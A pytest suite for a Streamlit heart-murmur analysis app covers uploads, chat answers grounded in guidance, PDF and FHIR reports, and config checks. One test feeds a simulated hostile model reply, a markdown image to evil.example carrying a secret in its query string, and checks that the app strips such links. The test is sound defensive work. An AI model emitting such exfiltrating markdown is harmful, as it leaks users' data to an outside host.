from __future__ import annotations

from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from tests.test_api import wav_bytes

APP = str(Path(__file__).resolve().parents[1] / "streamlit_app.py")


@pytest.fixture()
def app(analyzer_loaded_once, monkeypatch):
    monkeypatch.delenv("MURMURSCOPE_CHAT_BASE_URL", raising=False)
    st.cache_resource.clear()
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    yield at
    st.cache_resource.clear()


def test_upload_analyse_and_chat(app, synth_recordings):
    assert not app.exception and app.button[0].disabled
    app.file_uploader[0].set_value([(f"9001_{r.site}.wav", wav_bytes(r), "audio/wav") for r in synth_recordings[:2]])
    app.run()
    assert [s.value for s in app.selectbox] == ["AV", "PV"]
    app.selectbox[1].set_value("TV")
    app.button[0].click().run()
    assert not app.exception and not app.error
    assert app.subheader[0].value.startswith("Murmur: ")
    assert [m.label for m in app.metric] == ["P(Present)", "P(Unknown)", "P(Absent)", "signal quality"]
    assert [t.label for t in app.tabs] == ["rec1 · AV · 9001_AV.wav", "rec2 · TV · 9001_PV.wav"]
    assert len(app.get("image")) >= 3  # probabilities + one waveform/spectrogram per recording

    app.chat_input[0].set_value("Should I refer?").run()
    assert not app.exception
    answer = app.chat_message[-1].markdown[0].value
    assert answer.startswith("**Referral: the clinician's decision.**") and "No chat model" in answer
    assert "rec2 (TV, quality" in answer and len(answer.split("**Sources**")[0]) <= 1200
    (full,) = app.chat_message[-1].expander
    assert full.label.startswith("Full guidance passages") and full.markdown[0].value.startswith("**[1] ")
    assert [m.name for m in app.chat_message] == ["user", "assistant"]


def test_bad_upload_is_a_message(app, synth_recordings):
    app.file_uploader[0].set_value([("notes.wav", b"not audio at all", "audio/wav"),
                                    ("9001_MV.wav", wav_bytes(synth_recordings[3]), "audio/wav")])
    app.run()
    app.button[0].click().run()
    assert not app.exception
    assert len(app.error) == 1 and app.error[0].value.startswith("notes.wav: ")
    assert "Traceback" not in app.error[0].value and "findings" not in app.session_state


def test_report_downloads_after_analysis(app, synth_recordings, monkeypatch):
    import json

    from streamlit.runtime.media_file_manager import MediaFileManager

    from tests.test_reports import pdf_text, resources

    # The buttons make their files when clicked (deferred callables): keep them to call here.
    made = {}
    add_deferred = MediaFileManager.add_deferred

    def keep(self, data_callable, mimetype, coordinates, file_name=None, **kw):
        made[file_name] = data_callable
        return add_deferred(self, data_callable, mimetype, coordinates, file_name, **kw)

    monkeypatch.setattr(MediaFileManager, "add_deferred", keep)
    assert not app.download_button  # nothing to download before an analysis
    app.file_uploader[0].set_value([(f"9001_{r.site}.wav", wav_bytes(r), "audio/wav") for r in synth_recordings[:1]])
    app.run()
    app.button[0].click().run()
    assert not app.exception and not app.error
    assert [b.label for b in app.download_button] == ["Download PDF report", "Download FHIR bundle"]
    assert app.text_input(key="patient_id").value == ""
    app.text_input(key="patient_id").set_value("not an id!").run()
    assert not app.exception and "patient id" in app.error[0].value and not app.download_button
    app.text_input(key="patient_id").set_value("MRN-3").run()
    assert not app.error and len(app.download_button) == 2
    findings = app.session_state.findings
    text = pdf_text(made["murmurscope_MRN-3.pdf"]())
    assert "MRN-3" in text and f"Murmur: {findings.murmur}" in text and "9001_AV.wav" not in text
    bundle = json.loads(made["murmurscope_MRN-3.fhir.json"]())
    assert resources(bundle, "DiagnosticReport")[0]["subject"]["identifier"]["value"] == "MRN-3"
    assert made["murmurscope_anonymous.pdf"]()[:5] == b"%PDF-"


def test_add_a_guideline_in_the_session(app, analyzer_loaded_once, synth_recordings, monkeypatch):
    from knowledge.index import GuidanceIndex
    from knowledge.retriever import PREBUILT_DIR, Retriever

    # A retriever of this test's own: the session's shared analyzer must not keep the added document.
    fresh = Retriever(GuidanceIndex.load(PREBUILT_DIR), embedder=analyzer_loaded_once.retriever.embedder)
    monkeypatch.setattr(analyzer_loaded_once, "retriever", fresh)
    n = len(fresh.index.passages)
    policy = ("<html><head><title>Riverside pathway</title></head><body><h2>Loud murmurs</h2><p>Riverside rule: "
              "every child whose murmur is grade III or louder is seen by the Riverside cardiology team within a "
              "week.</p></body></html>").encode()
    app.file_uploader(key="guidelines").set_value([("riverside.html", policy, "text/html"),
                                                   ("scan.txt", b"\x00\x01binary", "text/plain")])
    app.run()
    assert not app.exception and len(fresh.index.passages) == n + 1
    assert [e.value for e in app.sidebar.error] == ["scan.txt: binary data, not text"]
    assert app.sidebar.success[0].value == "riverside.html: 1 passages added to the guidance"
    (recordings,) = [u for u in app.file_uploader if u.key != "guidelines"]
    recordings.set_value([("9001_MV.wav", wav_bytes(synth_recordings[3]), "audio/wav")])
    app.run()
    app.button[0].click().run()
    app.chat_input[0].set_value("Which team sees a child with a grade III murmur at Riverside?").run()
    (full,) = app.chat_message[-1].expander
    assert any("riverside.html, section Loud murmurs" in m.value for m in full.markdown)


def test_config_binds_loopback_with_the_api_upload_cap():
    import tomllib

    from assistant.data.uploads import MAX_UPLOAD_MB
    from assistant.serve.app import APIConfig

    config = tomllib.loads((Path(APP).parent / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] == "127.0.0.1"
    assert config["server"]["maxUploadSize"] == MAX_UPLOAD_MB == APIConfig().max_upload_mb
    assert config["client"]["showErrorDetails"] == "none"


def test_file_count_is_checked_before_decoding(app, synth_recordings, monkeypatch):
    import assistant.data.uploads as uploads

    decoded = []
    monkeypatch.setattr(uploads, "decode_upload", lambda *a, **k: decoded.append(a) or None)
    wav = wav_bytes(synth_recordings[0])
    app.file_uploader[0].set_value([(f"r{k}.wav", wav, "audio/wav") for k in range(uploads.MAX_RECORDINGS + 1)])
    app.run()
    app.button[0].click().run()
    assert not app.exception and "at most 8 recordings" in app.error[0].value and decoded == []


@pytest.fixture()
def consultations(monkeypatch):
    from assistant.consult.consultation import Consultation

    made = []
    original = Consultation.from_env.__func__
    monkeypatch.setattr(Consultation, "from_env", classmethod(lambda cls: made.append(original(cls)) or made[-1]))
    return made


def test_recordings_are_released_with_the_session(analyzer_loaded_once, consultations, monkeypatch,
                                                  synth_recordings):
    import gc

    monkeypatch.delenv("MURMURSCOPE_CHAT_BASE_URL", raising=False)
    st.cache_resource.clear()
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    at.file_uploader[0].set_value([("9001_AV.wav", wav_bytes(synth_recordings[0]), "audio/wav")])
    at.run()
    at.button[0].click().run()
    (consultation,) = consultations
    assert [len(v) for v in consultation.store._data.values()] == [1]
    at.button[0].click().run()  # a new analysis ends the previous conversation
    assert [len(v) for v in consultation.store._data.values()] == [1]
    del at
    gc.collect()
    assert consultation.store._data == {}
    st.cache_resource.clear()


def test_model_text_is_rendered_without_links_or_images(app, synth_recordings, monkeypatch):
    from assistant.consult.consultation import Consultation, Reply

    hostile = "Done. ![p](https://evil.example/p.png?c=secret) [see](https://evil.example) https://evil.example/x"
    monkeypatch.setattr(Consultation, "ask", lambda self, conv, text, history=(): Reply(text=hostile))
    app.file_uploader[0].set_value([("9001_AV.wav", wav_bytes(synth_recordings[0]), "audio/wav")])
    app.run()
    app.button[0].click().run()
    app.chat_input[0].set_value("[me](https://x.example)").run()
    shown = [m.markdown[0].value for m in app.chat_message]
    assert all("](" not in text for text in shown)
    assert "(image not shown: p)" in shown[-1] and "`https://evil.example/x`" in shown[-1]


def test_audio_llm_opinion_is_shown_beside_the_findings(analyzer_loaded_once, monkeypatch, synth_recordings):
    # Nothing listens on port 9: the findings stand, and the app says why there is no second opinion.
    monkeypatch.delenv("MURMURSCOPE_CHAT_BASE_URL", raising=False)
    monkeypatch.setenv("MURMURSCOPE_AUDIO_LLM_URL", "http://127.0.0.1:9/v1")
    st.cache_resource.clear()
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    at.file_uploader[0].set_value([(f"9001_{r.site}.wav", wav_bytes(r), "audio/wav") for r in synth_recordings[:1]])
    at.run()
    at.button[0].click().run()
    assert not at.exception and at.subheader[0].value.startswith("Murmur: ")
    assert any(m.value.startswith("Audio-LLM (murmur-qwen2-audio-mini): no second opinion") for m in at.markdown)
    st.cache_resource.clear()
